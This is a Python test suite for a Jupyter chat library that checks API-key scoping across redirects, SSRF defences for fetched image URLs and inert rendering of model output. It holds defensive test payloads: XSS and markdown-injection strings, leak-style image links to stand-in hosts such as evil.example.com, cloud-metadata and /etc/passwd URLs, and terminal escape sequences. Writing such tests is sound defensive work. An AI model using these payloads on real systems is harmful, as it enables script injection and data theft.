"""Security over real loopback HTTP (DESIGN.md section 8).

* The key goes only to the endpoint's host: not across a redirect to another
  port, not with image downloads; keys are paired with hosts as section 8 says.
* Returned image URLs are fetched under rules: http(s) only; no credentials,
  cookies or Referer; size, time and pixel limits; the content must be an
  image; private, loopback and link-local addresses are refused (after DNS and
  after each redirect) unless the endpoint itself is on one; ``image_hosts``.
  A URL that fails shows as a plain link with its reason; the rest of the reply
  is untouched.

There is no DNS here and every test server is on 127.0.0.1, so the tests that
need a public-looking host replace the resolver (``resolve_host``) and send the
pinned connection to a loopback server through ``LoopbackRouter``.
"""

from __future__ import annotations

import io
import json
import struct
import zlib
from collections.abc import Iterator
from typing import Any

import httpx
import pytest
from _routing import LoopbackRouter
from _servers import ReplayServer
from _xss import assert_inert
from PIL import Image

import jupyter_chatimg as ci
from jupyter_chatimg import _fetch
from jupyter_chatimg._errors import ImageInputError
from jupyter_chatimg._fetch import fetch_image

KEY = "sk-test-security-secret-0123456789abcdefgh"
OTHER_KEY = "sk-test-other-secret-zyxwvutsrqponmlkjih"
PATH = "/v1/chat/completions"
PUBLIC_IP = "93.184.216.34"  # a public address: never connected to, the router sends it to loopback


def png_bytes(size: tuple[int, int] = (4, 3), color: str = "blue") -> bytes:
    buf = io.BytesIO()
    Image.new("RGB", size, color).save(buf, "PNG")
    return buf.getvalue()


def claimed_png(width: int, height: int) -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IEND", b"")


def sse(text: str) -> str:
    chunks = [text[i : i + 7] for i in range(0, len(text), 7)]
    out = [
        "data: " + json.dumps({"choices": [{"index": 0, "delta": {"content": c}}]}) + "\n\n"
        for c in chunks
    ]
    out.append('data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n')
    return "".join(out) + "data: [DONE]\n\n"


class Recorder:
    """A sink that keeps the outputs as a notebook would show them, and every message."""

    wants_deltas = False

    def __init__(self) -> None:
        self.slots: dict[int, dict[str, Any]] = {}
        self.messages: list[dict[str, Any]] = []

    def show(self, slot: int, data: dict[str, Any], metadata: Any, *, final: bool) -> None:
        self.slots[slot] = data
        self.messages.append(data)

    def delta(self, text: str) -> None:
        pass

    @property
    def html(self) -> str:
        """The reply's text outputs, in order."""
        return "".join(self.slots[k].get("text/html", "") for k in sorted(self.slots))

    @property
    def images(self) -> list[dict[str, Any]]:
        return [self.slots[k] for k in sorted(self.slots) if "image/png" in self.slots[k]]


@pytest.fixture
def endpoint(clean_env: pytest.MonkeyPatch) -> Iterator[ReplayServer]:
    """The chat endpoint, with CHATIMG_API_KEY paired to it."""
    with ReplayServer() as srv:
        clean_env.setenv("CHATIMG_BASE_URL", srv.url)
        clean_env.setenv("CHATIMG_API_KEY", KEY)
        yield srv


@pytest.fixture
def other() -> Iterator[ReplayServer]:
    """A second server on another port: another host as far as the key is concerned."""
    with ReplayServer() as srv:
        yield srv


# -- the key goes only to the endpoint's host ---------------------------------------------


def test_redirect_to_another_port_gets_no_key(endpoint: ReplayServer, other: ReplayServer) -> None:
    endpoint.add("POST", PATH, 307, {"Location": other.url_for(PATH)})
    other.add_sse("POST", PATH, sse("Answered elsewhere."))
    result = ci.chat("Hi.", display=False)
    assert result.text == "Answered elsewhere."
    assert endpoint.requests[0].headers["authorization"] == f"Bearer {KEY}"
    assert len(other.requests) == 1
    assert "authorization" not in other.requests[0].headers
    assert KEY not in repr(other.requests[0])


def test_redirect_on_the_same_host_keeps_the_key(endpoint: ReplayServer) -> None:
    endpoint.add("POST", PATH, 308, {"Location": "/v2/chat/completions"})
    endpoint.add_sse("POST", "/v2/chat/completions", sse("Moved."))
    assert ci.chat("Hi.", display=False).text == "Moved."
    assert [r.path for r in endpoint.requests] == [PATH, "/v2/chat/completions"]
    assert all(r.headers["authorization"] == f"Bearer {KEY}" for r in endpoint.requests)


def test_redirect_loop_gives_one_line(endpoint: ReplayServer) -> None:
    endpoint.add("POST", PATH, 307, {"Location": PATH})
    with pytest.raises(ci.APIError) as info:
        ci.chat("Hi.", display=False, max_retries=0)
    assert (
        str(info.value) == f"too many redirects from 127.0.0.1:{endpoint.port}; check the base URL"
    )


def test_image_download_on_another_port_gets_no_key_cookie_or_referer(
    endpoint: ReplayServer, other: ReplayServer
) -> None:
    url = other.url_for("/img/tile.png?size=small")
    endpoint.add(
        "POST",
        PATH,
        200,
        {"Content-Type": "text/event-stream", "Set-Cookie": "session=s3cr3t; Path=/"},
        sse(f"Here: ![tile]({url}) done."),
    )
    other.add("GET", "/img/tile.png", 200, {"Content-Type": "image/png"}, png_bytes())
    sink = Recorder()
    result = ci.chat("Draw.", sink=sink)
    assert [im.size for im in result.images] == [(4, 3)] and len(sink.images) == 1
    (download,) = other.requests
    assert download.query == "size=small"
    for header in ("authorization", "cookie", "referer", "proxy-authorization"):
        assert header not in download.headers
    assert KEY not in repr(download)


def test_image_download_on_the_endpoint_host_gets_no_key_either(endpoint: ReplayServer) -> None:
    url = endpoint.url_for("/files/a.png")
    endpoint.add_sse("POST", PATH, sse(f"![a]({url})"))
    endpoint.add("GET", "/files/a.png", 200, {"Content-Type": "image/png"}, png_bytes())
    assert len(ci.chat("Draw.", display=False).images) == 1
    download = endpoint.requests_to("/files/a.png")[0]
    assert "authorization" not in download.headers


def _sent_key(srv: ReplayServer) -> str | None:
    auth = srv.requests[-1].headers.get("authorization")
    return auth.removeprefix("Bearer ") if auth else None


def test_key_pairing_on_the_wire(
    clean_env: pytest.MonkeyPatch, endpoint: ReplayServer, other: ReplayServer
) -> None:
    endpoint.add_sse("POST", PATH, sse("ok"))
    other.add_sse("POST", PATH, sse("ok"))
    # CHATIMG_API_KEY goes to CHATIMG_BASE_URL's host...
    ci.chat("1", display=False)
    assert _sent_key(endpoint) == KEY
    # ...and a base URL given in the call for another host gets no key,
    ci.chat("2", display=False, base_url=other.url)
    assert _sent_key(other) is None
    # unless one is named for it.
    clean_env.setenv("OTHER_KEY", OTHER_KEY)
    ci.chat("3", display=False, base_url=other.url, api_key_env="OTHER_KEY")
    assert _sent_key(other) == OTHER_KEY
    # %config ChatImg.base_url for another host: no key either.
    from jupyter_chatimg import _config

    _config.set_configured("base_url", other.url)
    try:
        ci.chat("4", display=False)
        assert _sent_key(other) is None
    finally:
        _config.set_configured("base_url", None)


def test_openai_key_pairing_on_the_wire(clean_env: pytest.MonkeyPatch, other: ReplayServer) -> None:
    other.add_sse("POST", PATH, sse("ok"))
    for name in ("CHATIMG_BASE_URL", "CHATIMG_API_KEY"):
        clean_env.delenv(name, raising=False)
    # OPENAI_API_KEY belongs to the OpenAI API, not to a CHATIMG_BASE_URL elsewhere...
    clean_env.setenv("OPENAI_API_KEY", OTHER_KEY)
    clean_env.setenv("CHATIMG_BASE_URL", other.url)
    ci.chat("1", display=False)
    assert _sent_key(other) is None
    # ...but it goes to the host of OPENAI_BASE_URL, and so does CHATIMG_API_KEY then.
    clean_env.delenv("CHATIMG_BASE_URL")
    clean_env.setenv("OPENAI_BASE_URL", other.url)
    ci.chat("2", display=False)
    assert _sent_key(other) == OTHER_KEY
    clean_env.setenv("CHATIMG_API_KEY", KEY)
    ci.chat("3", display=False)
    assert _sent_key(other) == KEY


# -- fetching returned images: the rules, one by one ------------------------------------


@pytest.fixture
def images(replay_server: ReplayServer) -> ReplayServer:
    """An image server, reached as http://cdn.example.com/... through the router."""
    return replay_server


def public(host: str, port: int) -> list[str]:
    table = {
        "cdn.example.com": [PUBLIC_IP],
        "a.cdn.example.com": [PUBLIC_IP],
        "other.example.org": [PUBLIC_IP],
        "evil.example.com": ["127.0.0.1"],
        "intranet.example.com": ["10.1.2.3"],
        "metadata.example.com": ["169.254.169.254"],
        "v6.example.com": ["::1"],
        "mapped.example.com": ["::ffff:127.0.0.1"],
        "split.example.com": [PUBLIC_IP, "192.168.1.20"],
    }
    if host not in table:
        return _fetch.resolve_host(host, port)  # address literals; a name fails: no DNS here
    return table[host]


def fetch(url: str, srv: ReplayServer, **kwargs: Any) -> tuple[Any, LoopbackRouter]:
    router = LoopbackRouter(srv.port)
    kwargs.setdefault("resolver", public)
    return fetch_image(url, transport=router, **kwargs), router


def refused(url: str, srv: ReplayServer, **kwargs: Any) -> str:
    with pytest.raises(ImageInputError) as info:
        fetch(url, srv, **kwargs)
    message = str(info.value)
    assert "\n" not in message
    return message


def test_a_public_image_is_fetched_over_the_pinned_address(images: ReplayServer) -> None:
    images.add("GET", "/a.png", 200, {"Content-Type": "image/png"}, png_bytes((5, 5)))
    image, router = fetch("http://cdn.example.com/a.png?x=1", images)
    assert image.size == (5, 5)
    (sent,) = router.seen
    assert sent.headers["host"] == "cdn.example.com"
    assert images.requests[0].headers["host"] == "cdn.example.com"
    assert images.requests[0].query == "x=1"


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        (
            "ftp://cdn.example.com/a.png",
            "not fetched: only http(s) image links are loaded, not ftp:",
        ),
        ("file:///etc/passwd", "not fetched: only http(s) image links are loaded, not file:"),
        (
            "javascript:alert(1)",
            "not fetched: only http(s) image links are loaded, not javascript:",
        ),
        ("//cdn.example.com/a.png", "not fetched: only http(s) image links are loaded, not this:"),
        (
            "http://nowhere.invalid/a.png",
            "not fetched: the host nowhere.invalid does not resolve",
        ),
    ],
)
def test_only_http_urls_that_resolve(url: str, reason: str, images: ReplayServer) -> None:
    assert refused(url, images) == reason
    assert images.requests == []


PRIVATE = (
    "not fetched: {} is a private, loopback or link-local address "
    "(allowed only when the endpoint itself is on one)"
)


@pytest.mark.parametrize(
    "host",
    [
        "evil.example.com",
        "intranet.example.com",
        "metadata.example.com",
        "v6.example.com",
        "mapped.example.com",
        "split.example.com",
    ],
)
def test_private_addresses_are_refused_after_dns(host: str, images: ReplayServer) -> None:
    assert refused(f"http://{host}/a.png", images) == PRIVATE.format(host)
    assert images.requests == []


@pytest.mark.parametrize(
    "literal",
    [
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "[::1]",
        "169.254.169.254",
        "10.0.0.1",
        "0.0.0.0",
        "100.64.0.1",  # shared address space (carrier-grade NAT)
        "[::ffff:10.0.0.1]",
        "[2002:7f00:1::]",  # 6to4 around 127.0.0.1
        "[fe80::1]",
    ],
)
def test_private_address_literals_are_refused(literal: str, images: ReplayServer) -> None:
    message = refused(f"http://{literal}/a.png", images, resolver=_fetch.resolve_host)
    assert message.endswith(
        "is a private, loopback or link-local address (allowed only when "
        "the endpoint itself is on one)"
    )
    assert images.requests == []


@pytest.mark.parametrize(
    "target",
    ["http://169.254.169.254/latest/meta-data/", "http://evil.example.com/b.png", "/local.png"],
)
def test_each_redirect_is_checked_again(target: str, images: ReplayServer) -> None:
    images.add("GET", "/a.png", 302, {"Location": target})
    images.add("GET", "/local.png", 200, {"Content-Type": "image/png"}, png_bytes())
    if target.startswith("/"):
        # A relative redirect stays on the (public) host: fine.
        image, router = fetch("http://cdn.example.com/a.png", images)
        assert image.size == (4, 3) and len(router.seen) == 2
        return
    host = httpx.URL(target).host
    assert refused("http://cdn.example.com/a.png", images) == PRIVATE.format(host)
    assert [r.path for r in images.requests] == ["/a.png"]  # the second hop never happened


def test_private_addresses_are_allowed_when_the_endpoint_is_on_one(images: ReplayServer) -> None:
    images.add("GET", "/a.png", 200, {"Content-Type": "image/png"}, png_bytes())
    image, _ = fetch("http://evil.example.com/a.png", images, allow_private=True)
    assert image.size == (4, 3)


def test_image_hosts_allow_list(images: ReplayServer) -> None:
    images.add("GET", "/a.png", 200, {"Content-Type": "image/png"}, png_bytes())
    hosts = ("cdn.example.com",)
    assert fetch("http://a.cdn.example.com/a.png", images, allowed_hosts=hosts)[0].size == (4, 3)
    assert (
        refused("http://other.example.org/a.png", images, allowed_hosts=hosts)
        == "not fetched: other.example.org is not in ChatImg.image_hosts"
    )
    assert (
        refused("http://notcdn.example.com/a.png", images, allowed_hosts=hosts)
        == "not fetched: notcdn.example.com is not in ChatImg.image_hosts"
    )


def test_size_limit_declared_and_streamed(images: ReplayServer) -> None:
    data = png_bytes((64, 64), "red") + b"\0" * 5000
    images.add("GET", "/declared.png", 200, {"Content-Type": "image/png"}, data)
    images.add("GET", "/chunked.png", 200, {"Content-Type": "image/png"}, data, framing="chunked")
    assert (
        refused("http://cdn.example.com/declared.png", images, max_bytes=4000)
        == f"not fetched: {len(data) / 1000:.3g} KB is above the 4 KB limit"
    )
    assert (
        refused("http://cdn.example.com/chunked.png", images, max_bytes=4000)
        == "not fetched: larger than the 4 KB limit"
    )


def test_time_limits(images: ReplayServer) -> None:
    data = png_bytes()
    images.add("GET", "/hang.png", 200, {"Content-Type": "image/png"}, data, first_byte_delay=30)
    images.add("GET", "/stall.png", 200, {"Content-Type": "image/png"}, data, hang_after=10)
    images.add(
        "GET", "/drip.png", 200, {"Content-Type": "image/png"}, data, delay=0.05, chunk_sizes=(1, 1)
    )
    expected = "not fetched: cdn.example.com did not answer within 0.4 s"
    assert refused("http://cdn.example.com/hang.png", images, timeout=0.4) == expected
    assert refused("http://cdn.example.com/stall.png", images, timeout=0.4) == expected
    # Every byte arrives in time, but the whole download takes too long.
    assert (
        refused("http://cdn.example.com/drip.png", images, timeout=0.4)
        == "not fetched: took longer than 0.4 s"
    )


def test_pixel_limits_and_decompression_bombs(images: ReplayServer) -> None:
    bomb = io.BytesIO()
    Image.new("1", (11_000, 11_000)).save(bomb, "PNG")  # 121 MP in a few kilobytes
    assert len(bomb.getvalue()) < 100_000
    images.add("GET", "/bomb.png", 200, {"Content-Type": "image/png"}, bomb.getvalue())
    images.add(
        "GET", "/claims.png", 200, {"Content-Type": "image/png"}, claimed_png(50_000, 50_000)
    )
    assert refused("http://cdn.example.com/bomb.png", images) == (
        "returned image: 11000x11000 is 121 megapixels, above the 100 megapixel limit; "
        "downscale it first (img.thumbnail((2048, 2048)))"
    )
    assert refused("http://cdn.example.com/claims.png", images).startswith(
        "returned image: 50000x50000 is 2500 megapixels, above the 100 megapixel limit"
    )


def test_the_content_must_be_an_image(images: ReplayServer) -> None:
    page = b"<html><body><img src=x onerror=alert(1)></body></html>"
    images.add("GET", "/page", 200, {"Content-Type": "text/html"}, page)
    images.add("GET", "/lying.png", 200, {"Content-Type": "image/png"}, page)
    images.add("GET", "/svg", 200, {"Content-Type": "image/svg+xml"}, b"<svg onload=alert(1)/>")
    images.add("GET", "/gone.png", 404, {"Content-Type": "text/plain"}, b"nope")
    assert refused("http://cdn.example.com/page", images) == (
        "not fetched: the link is text/html, not an image"
    )
    assert refused("http://cdn.example.com/lying.png", images) == (
        "returned image: the bytes are not a readable image (cannot identify image file); "
        "this is an HTML page (an error page?), not an image: check where it came from"
    )
    assert refused("http://cdn.example.com/svg", images).startswith(
        "returned image: the bytes are not a readable image (cannot identify image file); "
        "SVG is not a raster image"
    )
    assert refused("http://cdn.example.com/gone.png", images) == (
        "not fetched: cdn.example.com answered HTTP 404"
    )


# -- the whole chain: a reply with good and bad image links ------------------------------


@pytest.fixture
def public_endpoint(
    monkeypatch: pytest.MonkeyPatch, endpoint: ReplayServer, images: ReplayServer
) -> ReplayServer:
    """The endpoint looks public to the image rules; image hosts go through the router."""

    def resolve(host: str, port: int) -> list[str]:
        return [PUBLIC_IP] if host == "127.0.0.1" else public(host, port)

    monkeypatch.setattr(_fetch, "resolve_host", resolve)
    monkeypatch.setattr(_fetch, "DEFAULT_IMAGE_TRANSPORT", LoopbackRouter(images.port))
    return endpoint


REPLY = (
    "Intro line with **bold** and `code <b>`.\n\n"
    "![good](http://cdn.example.com/good.png)\n\n"
    "Middle paragraph.\n\n"
    "![bad](http://evil.example.com/steal.png?q=secret)\n\n"
    "![html](http://cdn.example.com/page.html)\n\n"
    "Closing line."
)


def test_failed_image_urls_become_plain_links_with_a_reason(
    public_endpoint: ReplayServer, images: ReplayServer
) -> None:
    public_endpoint.add_sse("POST", PATH, sse(REPLY))
    images.add("GET", "/good.png", 200, {"Content-Type": "image/png"}, png_bytes((6, 2)))
    images.add("GET", "/page.html", 200, {"Content-Type": "text/html"}, b"<p>hi</p>")
    sink = Recorder()
    result = ci.chat("Show me.", sink=sink)

    assert [im.size for im in result.images] == [(6, 2)] and len(sink.images) == 1
    errors = result.choices[0].image_errors
    assert errors == {
        "http://evil.example.com/steal.png?q=secret": PRIVATE.format("evil.example.com"),
        "http://cdn.example.com/page.html": "not fetched: the link is text/html, not an image",
    }
    assert result.text == REPLY  # the text itself is untouched
    assert [r.path for r in images.requests] == ["/good.png", "/page.html"]  # never evil

    html = sink.html
    assert "<img" not in html
    assert_inert(html)
    for kept in (
        "Intro line with <strong>bold</strong>",
        "<code>code &lt;b&gt;</code>",
        "Middle paragraph.",
        "Closing line.",
    ):
        assert kept in html
    # each image at its place: text, image, text, failed, failed, text
    kinds = ["image" if "image/png" in sink.slots[k] else "text" for k in sorted(sink.slots)]
    assert kinds == ["text", "image", "text", "text", "text", "text"]
    assert (
        '<a href="http://evil.example.com/steal.png?q=secret" rel="noopener noreferrer" '
        'target="_blank">image 2</a>'
    ) in sink.slots[3]["text/html"]
    assert "is a private, loopback or link-local address" in sink.slots[3]["text/html"]
    assert (
        '<a href="http://cdn.example.com/page.html" rel="noopener noreferrer" target="_blank">image 3</a>'
        in sink.slots[4]["text/html"]
    )
    assert "the link is text/html, not an image" in sink.slots[4]["text/html"]


def test_image_hosts_setting_through_chat(
    public_endpoint: ReplayServer, images: ReplayServer
) -> None:
    public_endpoint.add_sse(
        "POST",
        PATH,
        sse("![a](http://cdn.example.com/good.png) ![b](http://other.example.org/x.png)"),
    )
    images.add("GET", "/good.png", 200, {"Content-Type": "image/png"}, png_bytes())
    result = ci.chat("Show.", display=False, image_hosts=("cdn.example.com",))
    assert len(result.images) == 1
    assert result.choices[0].image_errors == {
        "http://other.example.org/x.png": "not fetched: other.example.org is not in ChatImg.image_hosts"
    }
    assert [r.path for r in images.requests] == ["/good.png"]


# -- output safety: model text is data, never code -----------------------------------------


def payloads(listener: int) -> str:
    """Injection payloads, each a paragraph; the code comes first so nothing swallows it."""
    leak = f"http://127.0.0.1:{listener}"
    return "\n\n".join(
        [
            "Code stays literal: `<b>bold?</b>` and `a<b`.",
            "```html\n<script>window.__pwned = 'fence'</script>\n```",
            "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">",
            "<script>window.__pwned='script';document.title='pwned'</script>",
            "[click me](javascript:window.__pwned='md-link')",
            '<a href="javascript:window.__pwned=\'a\'" target="_self">raw link</a>',
            f"![remote]({leak}/leak?q=secret-query)",
            f"![ref leak][r]\n\n[r]: {leak}/leak?q=ref",
            f"![collapsed][]\n\n[collapsed]: {leak}/leak?q=collapsed",
            f"<{leak}/autolink>",
            f'<img src="{leak}/raw-img?q=1">',
            f"<style>body {{ background: url({leak}/css) }}</style>",
            f'<link rel="stylesheet" href="{leak}/link.css">',
            "<svg onload=\"window.__pwned='svg'\"></svg>",
            "<iframe src=\"javascript:window.__pwned='iframe'\"></iframe>",
            "<details open ontoggle=\"window.__pwned='details'\">x</details>",
            "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCg3KTwvc2NyaXB0Pg==)",
            "[vb](vbscript:msgbox(8))",
            f"$\\href{{{leak}/math}}{{math link}}$ and $\\style{{color:red}}{{x}}$",
            "<!--><img src=x onerror=\"window.__pwned='comment1'\">-->",
            "<!-- --!><img src=x onerror=\"window.__pwned='comment2'\">",
        ]
    )


def chunked_sse(text: str, size: int = 3) -> str:
    out = [
        "data: "
        + json.dumps({"choices": [{"index": 0, "delta": {"content": text[i : i + size]}}]})
        + "\n\n"
        for i in range(0, len(text), size)
    ]
    return "".join(out) + 'data: {"choices":[{"index":0,"delta":{},"finish_reason":"stop"}]}\n\n'


def test_every_streamed_update_is_inert(endpoint: ReplayServer, other: ReplayServer) -> None:
    text = payloads(other.port)
    endpoint.add_sse("POST", PATH, chunked_sse(text))
    sink = Recorder()
    result = ci.chat("Go.", sink=sink, update_interval=0.001, image_hosts=("allowed.invalid",))
    assert result.text == text
    assert (
        len(sink.messages) >= 5
    )  # intermediate states, each with a half-written payload (timing-dependent count)
    for data in sink.messages:
        assert set(data) <= {"text/html", "text/plain"}  # no image was fetched: image_hosts
        assert_inert(data["text/html"])
    final = sink.html
    assert "<code>&lt;b&gt;bold?&lt;/b&gt;</code>" in final and "<code>a&lt;b</code>" in final
    assert "window.__pwned = 'fence'" in final  # the fence is shown, as code
    assert other.requests == []


def test_trust_html_lets_raw_html_through_but_still_no_markdown_images(
    endpoint: ReplayServer, other: ReplayServer
) -> None:
    text = payloads(other.port)
    endpoint.add_sse("POST", PATH, chunked_sse(text, 50))
    sink = Recorder()
    ci.chat("Go.", sink=sink, trust_html=True, image_hosts=("allowed.invalid",))
    html = sink.html
    assert "<img src=x onerror=\"window.__pwned='img';document.title='pwned'\">" in html
    assert "<script>window.__pwned='script'" in html
    assert f'<img src="http://127.0.0.1:{other.port}/leak' not in html  # markdown images: never
    assert "md-link" not in html.replace("[click me]", "")  # markdown links: still dropped
    assert "<p>click me</p>" in html


@pytest.fixture
def demo() -> Iterator[Any]:
    server = ci.serve_demo()
    try:
        yield server
    finally:
        server.close()


def test_saved_notebooks_hold_no_executable_output(
    clean_env: pytest.MonkeyPatch, tmp_path: Any, other: ReplayServer, demo: Any
) -> None:
    import nbformat
    from nbclient import NotebookClient

    with ReplayServer() as srv:
        text = payloads(other.port)
        srv.add_sse("POST", PATH, chunked_sse(text, 5))
        message = {"role": "assistant", "content": text}
        srv.add_json(
            "POST",
            PATH,
            {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}]},
        )
        cells = [
            "%load_ext jupyter_chatimg",
            f"%%chatimg --base-url {srv.url}\nShow me everything.",
            f"%%chatimg --no-stream --base-url {srv.url}\nAnd once more, whole.",
            f"%%chatimg --base-url {demo.url} -m demo-vision@mdinject\nHello.",
            f"%%chatimg --base-url {demo.url} -m demo-vision@mdinject;cut=40\nHello again.",
        ]
        nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(c) for c in cells])
        NotebookClient(
            nb, timeout=60, kernel_name="python3", resources={"metadata": {"path": str(tmp_path)}}
        ).execute()
        path = tmp_path / "injected.ipynb"
        nbformat.write(nb, path)
        assert len(srv.requests) == 2

    saved = nbformat.read(path, as_version=4)
    replies = []
    for cell in saved.cells[1:]:
        texts = []
        for output in cell.outputs:
            assert output.output_type in ("display_data", "stream"), output
            data = output.get("data", {})
            assert set(data) <= {"text/html", "text/plain", "image/png", "image/jpeg"}, data
            if "text/html" in data:
                assert_inert(data["text/html"])
                texts.append(data["text/html"])
        replies.append("".join(texts))
    assert len(replies) == 4 and all(replies)
    assert "Injection test payloads follow" in replies[2]
    # The images were fetched by the kernel (its rules allow loopback here: the endpoint is on
    # loopback), never by a front end; a failed one is a plain link with its reason.
    assert all(p.startswith("/leak") for p in demo.leaks)


def test_a_key_named_by_config_stays_with_its_endpoint(
    clean_env: pytest.MonkeyPatch, endpoint: ReplayServer, other: ReplayServer
) -> None:
    from jupyter_chatimg import _config

    endpoint.add_sse("POST", PATH, sse("ok"))
    other.add_sse("POST", PATH, sse("ok"))
    clean_env.setenv("GW_KEY", OTHER_KEY)
    _config.set_configured("api_key_env", "GW_KEY")
    try:
        ci.chat("1", display=False)  # the configured endpoint (CHATIMG_BASE_URL): the named key
        assert _sent_key(endpoint) == OTHER_KEY
        ci.chat("2", display=False, base_url=other.url)  # a cell's base URL elsewhere: none
        assert _sent_key(other) is None
        ci.chat("3", display=False, base_url=other.url, api_key_env="GW_KEY")  # named: sent
        assert _sent_key(other) == OTHER_KEY
        _config.set_configured("base_url", other.url)
        ci.chat("4", display=False)  # %config names both: they belong together
        assert _sent_key(other) == OTHER_KEY
    finally:
        _config.set_configured("api_key_env", None)
        _config.set_configured("base_url", None)


def test_terminal_output_carries_no_control_sequences(
    endpoint: ReplayServer, capsys: pytest.CaptureFixture[str]
) -> None:
    from jupyter_chatimg._render import PrintSink

    text = "Hi\x1b]0;owned\x07 there\r\n\x1b]52;c;ZXZpbA==\x07\x1b[2J\ttab\x9b31m end"
    endpoint.add_sse("POST", PATH, chunked_sse(text, 2))
    ci.chat("Go.", sink=PrintSink())
    out = capsys.readouterr().out
    assert out == "Hi]0;owned there\n]52;c;ZXZpbA==[2J\ttab31m end\n"


def test_server_error_text_carries_no_control_sequences(
    endpoint: ReplayServer, capsys: pytest.CaptureFixture[str]
) -> None:
    from jupyter_chatimg._render import PrintSink

    body = json.dumps({"error": {"message": "denied\x1b]0;owned\x07\r now", "type": "x"}})
    endpoint.add("POST", PATH, 403, {"Content-Type": "application/json"}, body)
    with pytest.raises(ci.AuthenticationError) as info:
        ci.chat("Go.", sink=PrintSink(), max_retries=0)
    assert str(info.value).startswith("HTTP 403: denied]0;owned now (")
    assert "\x1b" not in capsys.readouterr().out


def test_link_local_addresses_are_never_fetched_even_for_a_local_endpoint(
    images: ReplayServer,
) -> None:
    # Issue 15 (16): with a loopback endpoint (a local vLLM or Ollama), returned image
    # links were fetched from any private address, 169.254.169.254 included.
    from jupyter_chatimg._config import Settings
    from jupyter_chatimg._fetch import fetch_result_images
    from jupyter_chatimg._result import ChatResult, Choice

    images.add("GET", "/a.png", 200, {"Content-Type": "image/png"}, png_bytes((5, 5)))
    images.add("GET", "/b.png", 200, {"Content-Type": "image/png"}, png_bytes((6, 6)))
    addresses = {
        "metadata.internal": ["169.254.169.254"],
        "intranet.internal": ["10.1.2.3"],
        "localhost": ["127.0.0.1"],
    }

    def resolver(host: str, port: int) -> list[str]:
        return addresses[host]

    result = ChatResult(
        choices=[
            Choice(
                image_urls=[
                    "http://metadata.internal/latest/meta-data/iam",
                    "http://intranet.internal/a.png",
                    "http://localhost/b.png",
                ]
            )
        ]
    )
    settings = Settings(base_url="http://localhost:8000/v1")  # the endpoint is on loopback
    fetch_result_images(result, settings, resolver=resolver, transport=LoopbackRouter(images.port))
    errors = result.choices[0].image_errors
    assert "link-local" in errors["http://metadata.internal/latest/meta-data/iam"]
    assert "allowed only when the endpoint itself" in errors["http://intranet.internal/a.png"]
    assert [im.size for im in result.images] == [(6, 6)]  # the endpoint's own host only
    assert [r.path for r in images.requests] == ["/b.png"]
